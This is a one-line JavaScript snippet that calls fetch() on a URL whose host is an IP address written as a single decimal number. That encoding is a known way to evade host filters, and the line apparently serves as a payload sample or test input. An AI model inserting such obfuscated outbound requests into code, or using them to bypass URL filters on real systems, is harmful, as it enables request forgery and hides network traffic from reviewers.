fetch('http://3221226000/x');
